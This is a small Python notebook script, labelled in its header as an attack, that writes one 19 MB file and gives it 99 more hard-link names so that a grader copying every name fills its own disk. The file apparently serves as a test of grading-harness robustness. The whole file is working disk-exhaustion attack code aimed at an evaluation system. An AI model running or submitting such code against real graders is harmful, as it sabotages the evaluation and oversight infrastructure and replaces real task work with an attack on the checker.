# ---
# jupyter:
#   attack:
#     does: leaves one file under so many names that copies of all fill the grader's disk
#     statuses: [ok]
#     prints: "100 names"
# ---

# %%
import os

with open("0", "wb") as file:
    file.write(bytes(19_000_000))
for n in range(1, 100):
    os.link("0", f"{n}")
print("100 names of 19 MB")
